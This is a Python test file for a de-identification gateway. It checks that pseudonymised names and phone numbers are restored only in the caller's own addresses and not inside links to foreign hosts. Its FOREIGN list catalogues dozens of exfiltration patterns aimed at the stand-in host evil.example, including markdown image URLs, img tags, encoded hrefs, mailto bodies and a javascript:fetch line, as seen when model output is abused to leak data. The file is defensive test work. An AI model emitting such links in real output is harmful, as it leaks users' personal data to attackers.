"""A value never goes where somebody else would fetch it, and always where the caller's own addresses lead."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from haechi.gateway.deidentify.replace import deidentify
from haechi.gateway.reidentify.live import Live
from haechi.gateway.reidentify.stream import ARGUMENTS, TEXT, Restorer
from tests.gateway.kit_deidentify import Values, content, found, home, out, said

VALUES: Values = {"김민수": "person", "010-1234-5678": "phone"}
ASKED = "김민수(010-1234-5678)의 자리를 https://map.example.com/ 에서 찾아 줘"
MAPPING = out(said(ASKED), VALUES).mapping
LIVE = Live(MAPPING)

FOREIGN = [
    "![x](https://evil.example/?q={})",
    "![]( https://evil.example/?q={} )",
    "![](<https://evil.example/a b {}>)",
    "[보기](https://evil.example/{}/a)",
    "[보기](https://evil.example/(a){})",
    "[보기](//evil.example/?{})",
    "[보기](/relative?{})",
    "[a]: https://evil.example/{}",
    "[a]: <https://evil.example/x y {}>",
    "<https://evil.example/{}>",
    "https://evil.example/?q={}",
    "https://evil.example/?q='{}'",
    'https://evil.example/?q="{}"',
    "HTTPS://EVIL.EXAMPLE/{}",
    "https:/\\evil.example/{}",
    "https://user@evil.example/{}",
    "https://map.example.com@evil.example/{}",
    "https://map.example.com\\@evil.example/{}",
    "https://map.example.com.evil.example/{}",
    "https://evil.example#{}",
    "https://evil.example:8443/{}",
    "https://{}.evil.example/",
    "{}.evil.example",
    "a.{}.evil.example/x",
    "evil.example/?q={}",
    "www.evil.example/{}",
    "https://evil.example/" + "a" * 5_000 + "/{}",
    '<img src="https://evil.example/?q={}">',
    "<img src='https://evil.example/?q=a b\n{}'>",
    "<img src=https://evil.example/{}>",
    '<IMG\nSRC = "//evil.example/{}">',
    '<img src="https://evil.example/' + "a " * 3_000 + '{}">',
    '<a href="&#104;ttps://evil.example/{}">',
    '<a href="ht\ttps://ev\nil.example/{}">',
    '<img alt="x" srcset="https://evil.example/{} 2x">',
    '<p style="background:url(//evil.example/{})">',
    "<form action='/x?{}'>",
    "mailto:a@evil.example?body={}",
    "{}@evil.example",
    "a.{}+b@mail.evil.example",
    "⟦{}⟧x@evil.example",
    "{}@map.example.com.evil.example",
    "javascript:fetch('{}')",
    "ftp://evil.example/{}",
    "\\\\evil.example\\share\\{}",
    "url(https://evil.example/{})",
    "https://evil.example/?q=%20/{}",
]

OWN = [
    "https://map.example.com/?q={}",
    "[지도](https://map.example.com/{})",
    '<a href="https://map.example.com/?q={}">',
    "https://map.example.com:443/{}",
    "https://MAP.example.com/{}",
    "{}@map.example.com",
    "{}@MAP.example.com.",
]

ORDINARY = [
    "{}",
    "{}@인사팀",
    "{}@",
    "{}@localhost",
    "{}: https://evil.example/",
    "https://evil.example/ {}",
    "[{}](https://evil.example/)",
    "(https://evil.example/) {}",
    "![x](https://evil.example/) {}",
    '{{"url":"https://evil.example/","name":"{}"}}',
    '<a href="https://evil.example/">{}</a>',
    "<b>{}</b>",
    "{}.pdf",
    "{}. 그리고",
    "name = '{}'",
    "a < b and {}",
    "C:\\Users\\{}\\문서",
    "SELECT * FROM people WHERE name = '{}';",
    "// {}",
    "비고/{}",
    "2.5 {}",
    "List<{}>",
]


@pytest.mark.parametrize("size", [1, 7, 100_000])
@pytest.mark.parametrize("address", FOREIGN)
def test_not_into_a_stranger_s_address(address: str, size: int) -> None:
    answer = f"여기: {address.format('PERSON_1')} 끝, PERSON_1은"
    restorer = Restorer(LIVE)
    told = [each for at in range(0, len(answer), size) for each in restorer.feed(answer[at : at + size])]
    text = "".join([*told, *restorer.finish()])
    assert address.format("PERSON_1") in text
    assert restorer.counts.refused == 1 + (not text.endswith("김민수는"))


@pytest.mark.parametrize("address", OWN)
def test_into_the_caller_s_own(address: str) -> None:
    assert home(address.format("PERSON_1"), MAPPING) == address.format("김민수")


@pytest.mark.parametrize("text", ORDINARY)
def test_beside_addresses_all_is_restored(text: str) -> None:
    assert home(text.format("PERSON_1"), MAPPING) == text.format("김민수")


@pytest.mark.parametrize("address", FOREIGN[:10])
@pytest.mark.parametrize("ascii_only", [True, False])
def test_not_in_arguments_either(address: str, ascii_only: bool) -> None:
    written = json.dumps({"a": address.format("PERSON_1"), "b": "PERSON_1"}, ensure_ascii=ascii_only)
    for arguments in (written, written.replace("/", "\\/"), written.replace("h", "\\u0068")):
        told = json.loads(home(arguments, MAPPING, ARGUMENTS))
        assert told["b"] == "김민수"
        assert told["a"] == address.format("PERSON_1")


@given(st.sampled_from(FOREIGN), st.text(alphabet="가 ab.\n", max_size=8), st.text(max_size=5))
def test_whatever_stands_before_it(address: str, before: str, after: str) -> None:
    text = home(f"{before} {address.format('PERSON_1')}{after}", MAPPING)
    assert f"{address.format('PERSON_1')}" in text


def test_hosts_are_the_caller_s_words_only() -> None:
    asked = {
        "messages": [
            {"role": "user", "content": "김민수 https://own.example/a"},
            {"role": "assistant", "content": "https://model.example/a"},
            {"role": "tool", "content": "https://page.example/a"},
            {"role": "user", "content": [{"type": "tool_result", "content": "https://result.example/a"}]},
        ]
    }
    assert out(asked, VALUES).mapping.hosts == {"own.example"}


def test_hosts_of_a_page_that_was_fetched_are_not_his() -> None:
    parts = [
        {"type": "text", "text": "김민수 https://own.example/"},
        {"type": "text", "text": "https://page.example/"},
    ]
    asked = {"messages": [{"role": "user", "content": parts}]}
    sent = deidentify(asked, found(asked, VALUES), strangers=["/messages/0/content/1"])
    assert sent.mapping.hosts == {"own.example"}


@pytest.mark.parametrize(
    "text",
    [
        "https://김민수.example.com/010-1234-5678",
        "[김민수](/people/김민수)",
        '<td title="김민수">',
        "postgres://김민수:x@db.local/010-1234-5678",
        "\\\\server\\김민수\\010-1234-5678",
        "김민수.example.com 그리고 mailto:김민수",
    ],
)
def test_the_caller_s_own_addresses_come_back(text: str) -> None:
    sent = out(said(text), VALUES)
    assert "김민수" not in content(sent.body)
    assert home(content(sent.body), sent.mapping) == text


def test_the_host_is_waited_for_and_no_longer() -> None:
    restorer = Restorer(LIVE, TEXT)
    assert "".join(restorer.feed("보기 https://PERSON_1.ev")) == "보기 https://"
    assert "".join(restorer.feed("il.example/ 그")).startswith("PERSON_1.evil.example/")
    restorer = Restorer(LIVE, TEXT)
    restorer.feed("https://PERSON_1." + "a" * 1_000)
    assert restorer.held == ""


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("[PERSON_1]([PHONE_1])", "[김민수]([010-1234-5678])"),
        ("[PERSON_1]([PHONE_1] 담당)", "[김민수]([010-1234-5678] 담당)"),
        ("[전화](tel:PHONE_1)", "[전화](tel:010-1234-5678)"),
        ('<a href="tel:PHONE_1">전화</a>', '<a href="tel:010-1234-5678">전화</a>'),
        ("sms:PHONE_1 로", "sms:010-1234-5678 로"),
    ],
)
def test_what_nobody_would_fetch_is_no_address(written: str, read: str) -> None:
    assert home(written, MAPPING) == read


@pytest.mark.parametrize(
    "written",
    [
        "[a](PHONE_1)",
        "[a]([PHONE_1].evil.example)",
        "[a]([PHONE_1]/x)",
        "[a](mailto:x@evil.example?body=PHONE_1)",
        "[a](mailto:PHONE_1@evil.example)",
        "[a](tel:PHONE_1/x)",
        '<img src="x:tel:PHONE_1">',
    ],
)
def test_what_goes_on_behind_it_is_an_address(written: str) -> None:
    assert home(written, MAPPING) == written
